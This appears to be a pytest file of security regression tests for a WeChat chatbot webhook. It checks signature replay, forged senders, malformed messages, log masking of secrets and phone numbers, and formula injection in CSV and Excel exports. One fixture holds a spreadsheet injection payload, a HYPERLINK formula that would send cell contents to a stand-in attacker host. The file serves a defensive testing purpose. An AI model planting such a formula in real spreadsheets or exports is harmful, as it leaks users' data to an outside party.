"""What an attacker with a WeChat account found by probing the running service (issue 12), each
probe replayed against the real webhook: forged or replayed requests → 403, malformed ones → 400,
never a 500, never someone else's answer."""

from __future__ import annotations

import time
import xml.etree.ElementTree as ET
from collections.abc import Callable

import pytest
from flask import Flask
from sqlalchemy import func, select

from domain.storage.models import Case, Message
from tests.conftest import WECHAT_TOKEN
from tests.support.wechat import signed_query, text_xml

KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"
APP_ID = "wx2c2769f8efd9abc2"


def post(app: Flask, body: bytes, query: dict[str, str] | None = None):  # type: ignore[no-untyped-def]
    return app.test_client().post("/wechat", query_string=query or signed_query(WECHAT_TOKEN), data=body,
                                  content_type="text/xml")


def test_a_signature_cannot_be_replayed_with_another_body(app: Flask) -> None:
    query = signed_query(WECHAT_TOKEN, nonce="8372615")
    assert post(app, text_xml("你好", sender="oHonest1"), query).status_code == 200
    forged = post(app, text_xml("我要转人工", sender="oForger1"), query)
    assert forged.status_code == 403
    with app.extensions["gongyou.db"].session() as db:
        assert db.scalar(select(func.count()).select_from(Case)) == 0  # no RG case opened by the forgery


def test_wechats_own_retry_of_the_same_request_is_still_answered(app: Flask) -> None:
    query = signed_query(WECHAT_TOKEN, nonce="5550001")
    body = text_xml("东莞有普工吗", sender="oRetry02", msg_id=7000000000000000123)
    first, second = post(app, body, query), post(app, body, query)
    assert first.status_code == second.status_code == 200
    # the same answer; its CreateTime is the second each reply was made (the two may straddle a second)
    assert ET.fromstring(first.data).findtext("Content") == ET.fromstring(second.data).findtext("Content")
    assert ET.fromstring(second.data).findtext("Content")


def test_with_an_aes_key_plaintext_requests_are_refused(app_factory: Callable[..., Flask], rasa_url: str) -> None:
    app = app_factory(rasa_url, wechat_aes_key=KEY, wechat_app_id=APP_ID)
    for mode in ({}, {"encrypt_type": "raw"}):
        resp = post(app, text_xml("查询进度", sender="oPlain1"), {**signed_query(WECHAT_TOKEN), **mode})
        assert resp.status_code == 403, mode
    with app.extensions["gongyou.db"].session() as db:
        assert db.scalar(select(func.count()).select_from(Message)) == 0


def test_plaintext_beside_a_key_only_when_explicitly_allowed(app_factory: Callable[..., Flask], rasa_url: str) -> None:
    app = app_factory(rasa_url, wechat_aes_key=KEY, wechat_app_id=APP_ID, wechat_allow_plaintext=True)
    assert post(app, text_xml("你好", sender="oPlain2")).status_code == 200


def test_the_same_msgid_from_another_sender_gets_its_own_answer(app: Flask) -> None:
    first = post(app, text_xml("我要转人工", sender="oVictim01", msg_id=7100000000000000001))
    assert first.status_code == 200
    other = post(app, text_xml("你好", sender="oAttacker1", msg_id=7100000000000000001))
    assert other.status_code == 200 and other.data != first.data
    content = ET.fromstring(other.data).findtext("Content") or ""
    assert "RG" not in content and "1 找工作" in content  # the attacker's own menu, not the victim's case


def test_no_address_in_redis_key_names_and_no_number_in_clear(app: Flask) -> None:
    post(app, text_xml("我的电话13800138000", sender="oSecret77"))
    client = app.extensions["gongyou.redis"]
    for key in client.scan_iter("gongyou:*"):
        assert "oSecret77" not in key
        kind = client.type(key)
        value = client.get(key) if kind == "string" else ""
        assert "13800138000" not in (value or ""), key


def _message(**overrides: str) -> bytes:
    fields = {"ToUserName": "gh_1", "FromUserName": "oOdd01", "CreateTime": str(int(time.time())),
              "MsgType": "text", "Content": "你好", "MsgId": "7200000000000000001", **overrides}
    return ("<xml>" + "".join(f"<{k}>{v}</{k}>" for k, v in fields.items()) + "</xml>").encode()


@pytest.mark.parametrize("body", [
    _message(CreateTime="yesterday"),
    _message(CreateTime="99999999999999999999999"),
    _message(CreateTime="-5"),
    _message(MsgId="abc"),
    _message(MsgType="voice", Content="", MediaId="m1", Format="amr", Recognition="<b>你好</b>"),
    _message(MsgType="event", Event="LOCATION", Latitude="abc", Longitude="113.3", Precision="30", MsgId=""),
    _message(MsgType="location", Location_X="north", Location_Y="113.3", Scale="15", Label="x"),
    _message(FromUserName=""),
])
def test_odd_but_well_formed_messages_are_a_400(app: Flask, body: bytes) -> None:
    resp = post(app, body)
    assert resp.status_code == 400, (resp.status_code, resp.data)
    assert b"Traceback" not in resp.data


def test_cdata_end_in_a_reply_does_not_break_the_xml() -> None:
    from bot.channels.wechat.webhook import reply_xml

    xml = reply_xml(to="oWorker", from_="gh_1", text="第1行 ]]> 第2行 <b>&")
    assert ET.fromstring(xml).findtext("Content") == "第1行 ]]> 第2行 <b>&"


def test_a_formula_in_an_employer_name_stays_text_in_every_export() -> None:
    import csv
    import io
    from datetime import date

    from openpyxl import load_workbook

    from console.report_files import csv_text, xlsx
    from console.stats import Figures

    evil = '=HYPERLINK("http://evil.example/?"&A1,"华达")'
    f = Figures(date(2026, 11, 1), date(2026, 12, 1), filed=1,
                groups=[(evil, "东莞", 1, 3, 24000, False), ("@SUM(1+1)", "-2+3", 1, 1, 100, False)])
    book = load_workbook(io.BytesIO(xlsx(f, "11月")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    found = [c for c in cells if c.value == evil]
    assert found and all(c.data_type == "s" for c in found)
    assert not any(c.data_type == "f" for c in cells)
    rows = list(csv.reader(io.StringIO(csv_text(f, "11月").lstrip("\ufeff"))))
    assert [evil, "东莞"] != next(r for r in rows if r and "华达" in r[0])[:2]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_logs_keep_no_secret_parameters_openids_or_numbers() -> None:
    import logging

    from domain.crypto import MaskingFilter

    openid = "oAbCdEfGhIjKlMnOpQrStUvWxYz1"
    line = (f'POST /wechat?signature=4fa9e0c1&timestamp=1795900000&nonce=8372615&openid={openid} '
            f'from {openid} phone 13800138000 https://api.weixin.qq.com/cgi-bin/token?appid=wx1&secret=S3cr3tS3cr3t')
    try:
        raise RuntimeError(f"failed for url: https://api.weixin.qq.com/cgi-bin/token?secret=S3cr3tS3cr3t&x={openid}")
    except RuntimeError:
        import sys

        record = logging.LogRecord("gunicorn.access", logging.INFO, __file__, 1, "%s", (line,), sys.exc_info())
    MaskingFilter().filter(record)
    kept = record.getMessage() + (record.exc_text or "")
    for secret in ("4fa9e0c1", "1795900000", "8372615", openid, "13800138000", "S3cr3tS3cr3t"):
        assert secret not in kept, secret
    assert "POST /wechat" in kept and "138****8000" in kept


def test_a_failed_wechat_api_call_names_no_secret() -> None:
    import traceback

    import fakeredis

    from bot.channels.wechat.api import WeChatApi, WeChatApiError

    api = WeChatApi("wxAPPID", "S3cr3tS3cr3t", fakeredis.FakeRedis(), "http://127.0.0.1:9/cgi-bin", timeout=0.5)
    with pytest.raises(WeChatApiError) as caught:
        api.send_text("oWorker", "你好")
    text = "".join(traceback.format_exception(caught.value))
    assert "S3cr3tS3cr3t" not in text and "secret=" not in text and "token" in text


def test_spaced_dashed_and_full_width_numbers_are_masked_too() -> None:
    from domain.crypto import mask_text

    for said in ("我电话138 0013 8000", "138-0013-8000", "+86 138 0013 8000", "１３８００１３８０００"):
        masked = mask_text(said)
        assert "0013" not in masked and "００１３" not in masked, masked
    assert mask_text("编号QX202611290001") == "编号QX202611290001"  # a case number is not a phone
